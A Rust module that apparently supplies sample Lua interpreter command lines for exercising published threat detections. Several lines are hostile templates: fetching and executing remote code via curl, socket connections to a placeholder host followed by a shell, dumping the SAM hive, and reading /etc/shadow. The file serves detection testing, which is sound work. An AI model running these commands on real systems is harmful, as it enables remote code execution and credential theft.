//! What the published Lua detections look for: the KQL query and the Sumo search find each of these.

use crate::random::Random;

/// A program, where it stands, and a command line.
pub(crate) struct Run {
    pub(crate) name: &'static str,
    pub(crate) folder: &'static str,
    pub(crate) line: &'static str,
}

const fn run(name: &'static str, folder: &'static str, line: &'static str) -> Run {
    Run { name, folder, line }
}

const TOOLS: &str = r"C:\Tools\Lua";

#[rustfmt::skip]
const WINDOWS: [Run; 8] = [
    run("lua.exe", TOOLS, r#"lua.exe -e "os.execute('whoami /groups')""#),
    run("lua54.exe", TOOLS, r#""C:\Tools\Lua\lua54.exe" -e "local s = require('socket'); s.connect('{h}', 443); os.execute('{x}.cmd')""#),
    run("luajit.exe", r"C:\Users\Public", r#"luajit.exe -e "loadstring(io.popen('curl -s http://{h}/{x}'):read('*a'))()""#),
    run("lua.exe", TOOLS, r#"lua.exe -e "io.popen('net group \"Domain Admins\" /domain')" C:\Users\{u}\AppData\Local\Temp\{x}.lua"#),
    run("luajit.exe", TOOLS, r#"luajit.exe C:\ProgramData\{x}.lua os.execute('reg save HKLM\SAM {x}')"#),
    run("wlua5.1.exe", TOOLS, r#"wlua5.1.exe -e "dofile('C:\\Users\\{u}\\{x}.lua'); os.execute('start {x}.exe')""#),
    run("lua54.exe", TOOLS, r#"lua54.exe -lsocket -e "socket.tcp():connect('{h}', {n}); io.popen('cmd')""#),
    run("lua.exe", TOOLS, r#"lua.exe -e "require('http.request').new_from_uri('http://{h}/{x}'); loadstring('{x}')()""#),
];

#[rustfmt::skip]
const LINUX: [Run; 6] = [
    run("lua5.4", "/usr/bin", "lua5.4\0-e\0os.execute('id; uname -a')"),
    run("lua5.1", "/usr/bin", "lua5.1\0-e\0local s=require(\"socket\").tcp() s:connect(\"{h}\",{n}) os.execute(\"/bin/sh\")"),
    run("luajit", "/usr/bin", "luajit\0-e\0loadstring(io.popen('curl -s http://{h}/{x}'):read('*a'))()"),
    run("lua5.4", "/usr/bin", "lua5.4\0/tmp/{x}.lua\0os.execute('{x}')"),
    run("lua5.3", "/usr/bin", "lua5.3\0-e\0io.popen('cat_/etc/shadow')"),
    run("luajit", "/usr/bin", "luajit\0-e\0dofile('/dev/shm/{x}.lua')os.execute('w')"),
];

pub(crate) fn windows(r: &mut Random) -> &'static Run {
    r.pick(&WINDOWS)
}

/// Arguments are parted by NUL, as the kernel has them.
pub(crate) fn linux(r: &mut Random) -> &'static Run {
    r.pick(&LINUX)
}
